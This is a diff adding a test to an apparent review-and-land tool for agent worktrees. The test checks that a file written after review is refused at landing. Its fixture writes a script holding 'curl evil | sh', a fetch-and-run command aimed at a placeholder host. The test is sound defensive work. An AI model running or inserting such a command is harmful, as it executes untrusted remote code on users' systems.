@@ -114,3 +114,26 @@ async def test_a_pull_request_from_the_review_screen_pushes_the_branch_and_opens
     with Store.open(db) as store:
         (landing,) = store.conn.execute("SELECT pull_request, base_branch FROM landings").fetchall()
     assert tuple(landing) == ("https://github.com/example/project/pull/7", "main")
+
+
+async def test_the_review_screen_lands_only_the_tree_it_shows(
+    sim: SimServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A file written in the worktree after the screen took its diff (the agent's leftover process,
+    a sibling) is not landed unseen: the landing refuses, naming the tree it shows and the one the
+    worktree holds now (`lfg land --tree`). Fails before: the later file landed with the change."""
+    path = writer_tickets(tmp_path, monkeypatch)
+    repo, db = tmp_path / "repo", tmp_path / "h.sqlite3"
+    base = git(repo, "rev-parse", "main")
+    async with recorded_app(sim, path, db) as app, app.run_test(size=SMALL) as pilot:
+        screen = await review_when_done(pilot, app)
+        tree = next((tmp_path / "trees").rglob("summary.md")).parent.parent
+        (tree / "later.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
+        await pilot.press("M")
+        await until(pilot, lambda: isinstance(app.screen, LandScreen))
+        await pilot.press("ctrl+s")
+        await until(pilot, lambda: "Not landed" in status_of(screen), 30)
+        assert "no longer holds what review showed" in status_of(screen)
+    assert git(repo, "rev-parse", "main") == base, "nothing landed"
+    with Store.open(db) as store:
+        assert store.conn.execute("SELECT count(*) FROM landings").fetchone()[0] == 0
